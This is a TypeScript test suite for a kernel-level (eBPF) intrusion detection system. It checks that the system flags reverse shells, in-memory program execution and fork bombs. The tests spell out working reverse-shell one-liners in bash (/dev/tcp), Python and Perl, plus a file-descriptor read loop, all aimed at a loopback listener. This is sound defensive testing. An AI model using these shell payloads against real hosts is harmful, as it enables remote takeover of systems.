import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { copyFileSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type AddressInfo, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { Evidence } from "../core/action.ts";
import { PHEROMONES } from "../core/agent.ts";
import { systemClock } from "../core/clock.ts";
import { processKey } from "../core/entity.ts";
import type { SensedEvent } from "../core/event.ts";
import { seededRandom } from "../core/random.ts";
import { createImmuneColony } from "../immune/colony.ts";
import { probeBpfFeatures } from "../kernel/bpf-features.ts";
import { RecordDecoder } from "../senses/decode.ts";
import { startKernelSenses, type KernelSenses } from "../senses/kernel-senses.ts";
import { ProcessTable } from "../senses/process-table.ts";
import { snapshotProcesses } from "../senses/snapshot.ts";
import { staticProgram } from "../senses/static-program.fixture.ts";
import { Field } from "../swarm/field.ts";
import { Brain } from "./brain.ts";
import { PUPPET } from "./puppet.fixture.ts";

const SHELL = "/bin/bash";

function lacks(): string | undefined {
  if (process.getuid?.() !== 0) return "needs root";
  const wanted = ["ebpf.ringbuf", "ebpf.tp_btf", "ebpf.cgroup"];
  const missing = probeBpfFeatures().find(({ name, available }) => wanted.includes(name) && !available);
  return missing && `needs ${missing.name} (${missing.found})`;
}

/** The colony at light depth with the kernel's own events, and a remote hand on loopback. */
class Stage {
  readonly dir = mkdtempSync(join(tmpdir(), "swarms-process-agents-"));
  readonly puppet: string;
  private readonly processes = new ProcessTable();
  private readonly parents = new Map<string, string>();
  private readonly brain: Brain;
  private readonly senses: KernelSenses;
  private readonly server: Server;

  constructor(puppet: string, server: Server) {
    this.puppet = join(this.dir, "puppet");
    this.server = server;
    copyFileSync(puppet, this.puppet);
    this.brain = new Brain(createImmuneColony({ leaseMs: 1000 }), {
      clock: systemClock,
      random: seededRandom(1),
      field: new Field({ pheromones: PHEROMONES, seed: 1 }),
      processes: this.processes,
      propose: () => undefined,
      report: () => undefined,
    });
    this.processes.seed(snapshotProcesses(), systemClock.wallMs());
    const decoder = new RecordDecoder();
    const senses = startKernelSenses({
      wants: this.brain.wants(),
      runq: false,
      ringBytes: 4 << 20,
      onRecords: (records) => void decoder.decode(records, (event) => this.take(event)),
      onTrouble: () => undefined,
    });
    assert.ok(senses.ok, senses.ok ? "" : senses.says);
    this.senses = senses.value;
  }

  get port(): string {
    return String((this.server.address() as AddressInfo).port);
  }

  /** Runs a command; then evidence of the kind on it and its descendants, once there is some so heavy, or after half a second. */
  async run(kind: string, least: number, path: string, ...args: string[]): Promise<Evidence[]> {
    const child = spawn(path, args, { stdio: "ignore", timeout: 15_000 });
    await once(child, "exit");
    assert.ok(child.pid !== undefined);
    for (let tries = 0; ; tries++) {
      const found = this.told(child.pid).filter((each) => each.kind === kind && each.agent !== "provenance");
      if (heaviest(found) >= least || tries === 50) return found;
      await sleep(10);
    }
  }

  async close(): Promise<void> {
    await this.senses.close();
    this.server.close();
    rmSync(this.dir, { recursive: true, force: true });
  }

  private told(pid: number): Evidence[] {
    const members = new Set([...this.parents.keys()].filter((key) => key.startsWith(`p:${pid}@`)));
    for (const [child, parent] of this.parents) if (members.has(parent)) members.add(child);
    return [...members].flatMap((key) => this.brain.evidenceOf(key));
  }

  private take(event: SensedEvent): void {
    this.processes.apply(event, systemClock.wallMs());
    if (event.kind === "fork") this.parents.set(processKey(event.child), processKey(event.process));
    this.brain.onEvent(event);
  }
}

/** Whoever connects is told to run two programs and to end. */
async function remoteHand(): Promise<Server> {
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    socket.end("id\n/bin/uname\nexit\n");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return server;
}

async function live(t: TestContext, look: (stage: Stage) => Promise<void>): Promise<void> {
  const reason = lacks();
  if (reason !== undefined) return t.skip(reason);
  const puppet = staticProgram(PUPPET);
  if (puppet === undefined) return t.skip("needs a C compiler with a static libc");
  const stage = new Stage(puppet, await remoteHand());
  try {
    await look(stage);
  } finally {
    await stage.close();
  }
}

function heaviest(evidence: readonly Evidence[]): number {
  return Math.max(0, ...evidence.map(({ weight }) => weight));
}

const PYTHON = (port: string): string =>
  `import socket,os,subprocess
s=socket.create_connection(("127.0.0.1",${port}))
[os.dup2(s.fileno(),n) for n in (0,1,2)]
subprocess.call(["/bin/sh","-i"])`;
const PERL = (port: string): string =>
  `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(${port},inet_aton("127.0.0.1")));
open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`;

/** Command, its arguments, and the least weight of what is told of it. */
const SHELLS: Readonly<Record<string, (stage: Stage) => readonly [least: number, path: string, ...args: string[]]>> = {
  "bash and /dev/tcp": ({ port }) => [0.9, SHELL, "-c", `${SHELL} --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`],
  python: ({ port }) => [0.9, "/usr/bin/python3", "-c", PYTHON(port)],
  perl: ({ port }) => [0.9, "/usr/bin/perl", "-e", PERL(port)],
  "a program of one's own with dup2": ({ port, puppet }) => [0.9, puppet, "dup2", port, "/bin/sh"],
  "a shell fed through pipes by a relay": ({ port, puppet }) => [0.6, puppet, "pipes", port],
  "halves of a connection": ({ port }) => [
    0.8,
    SHELL,
    "-c",
    `exec 5<>/dev/tcp/127.0.0.1/${port}; cat <&5 | while read line; do $line 2>&5 >&5; done`,
  ],
};

for (const [name, command] of Object.entries(SHELLS))
  test(`live reverse shell: ${name}`, { timeout: 60_000 }, (t) =>
    live(t, async (stage) => {
      const [least, path, ...args] = command(stage);
      const found = await stage.run("reverse-shell", least, path, ...args);
      assert.ok(heaviest(found) >= least, JSON.stringify(found));
    }),
  );

test("live reverse shell: a renamed copy of a shell, by what it runs", { timeout: 60_000 }, (t) =>
  live(t, async (stage) => {
    const copy = join(stage.dir, "updater");
    copyFileSync("/bin/dash", copy);
    const found = await stage.run("reverse-shell", 0.9, stage.puppet, "dup2", stage.port, copy);
    assert.ok(heaviest(found) >= 0.9, JSON.stringify(found));
  }),
);

test(
  "live: a program in memory is hidden, a pipeline and a connecting program are neither hidden nor a shell",
  { timeout: 60_000 },
  (t) =>
    live(t, async (stage) => {
      const [memory] = await stage.run("hidden", 0.5, stage.puppet, "memfd", "/bin/true");
      assert.deepEqual([memory?.weight, memory?.techniques], [0.8, ["T1620"]]);
      assert.deepEqual(await stage.run("hidden", 0.5, SHELL, "-c", "ls / | cat | sort >/dev/null"), []);
      const fetch = `exec 5<>/dev/tcp/127.0.0.1/${stage.port}; read line <&5; echo $line | cat >/dev/null; sh -c 'id | cat'`;
      assert.deepEqual(await stage.run("reverse-shell", 0.5, SHELL, "-c", fetch), []);
    }),
);

test(
  "live: 127 copies in seven generations are a fork bomb, 120 workers of one parent are not",
  { timeout: 60_000 },
  (t) =>
    live(t, async (stage) => {
      const bomb = await stage.run("fork-bomb", 0.7, stage.puppet, "tree");
      assert.ok(heaviest(bomb) >= 0.7, JSON.stringify(bomb));
      assert.deepEqual(await stage.run("fork-bomb", 0.7, stage.puppet, "pool"), []);
    }),
);
